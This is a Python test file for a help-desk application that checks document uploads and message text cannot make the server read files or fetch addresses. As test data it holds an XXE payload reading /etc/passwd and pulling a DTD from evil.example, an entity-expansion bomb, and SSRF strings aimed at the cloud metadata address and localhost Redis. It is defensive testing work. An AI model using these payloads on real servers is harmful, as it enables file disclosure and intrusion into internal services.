"""A document that makes whoever reads it fetch a file or an address, or fill its memory.

osTicket CVE-2026-22200 (files of the server in a PDF), CVE-2020-24881 and Zammad CVE-2026-34719, FreeScout
CVE-2026-41905 (addresses that the server fetches). No XML is parsed here, and nothing is ever fetched for anybody.
"""

from __future__ import annotations

import io
import socket
import zipfile

import pytest
from flask.testing import FlaskClient

from tests.desk import post
from tests.files import chosen

ENTITY = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">
<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>"""


def document() -> bytes:
    """A docx, true but for entities in each of its parts."""
    parts = {
        "[Content_Types].xml": b"<Types/>",
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": b"<document>&f;&c;</document>",
    }
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, ENTITY + content)
    return made.getvalue()


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    asked: list[object] = []

    def refuse(*address: object, **_more: object) -> None:
        asked.append(address)
        raise OSError("nothing is to be fetched")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return asked


def test_nothing_is_read_or_fetched_for_a_document(reza: FlaskClient, code: str, no_network: list[object]) -> None:
    response = post(reza, f"/tickets/{code}/messages", body="x", attachments=chosen({"x.docx": document()}))
    assert response.status_code in (303, 422)
    assert "root:" not in response.text
    assert no_network == []


def test_nothing_is_fetched_for_an_address_in_a_text(
    reza: FlaskClient, sara: FlaskClient, code: str, no_network: list[object]
) -> None:
    text = "http://169.254.169.254/latest http://localhost:6379/ ![x](http://evil.example/x.png) file:///etc/passwd"
    assert post(reza, f"/tickets/{code}/messages", body=text).status_code == 303
    for page in (sara.get(f"/staff/tickets/{code}"), reza.get(f"/tickets/{code}")):
        assert '<img src="http' not in page.text
        assert "root:" not in page.text
    assert no_network == []
